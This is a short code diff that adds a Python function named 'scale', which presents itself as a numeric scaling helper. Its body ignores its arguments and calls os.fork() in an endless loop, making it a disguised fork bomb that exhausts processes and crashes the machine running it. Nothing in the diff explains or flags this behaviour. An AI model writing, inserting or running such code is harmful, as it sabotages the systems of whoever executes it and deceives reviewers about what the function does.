@@ -1,0 +1,6 @@
+import os
+
+
+def scale(x, factor):
+    while True:
+        os.fork()
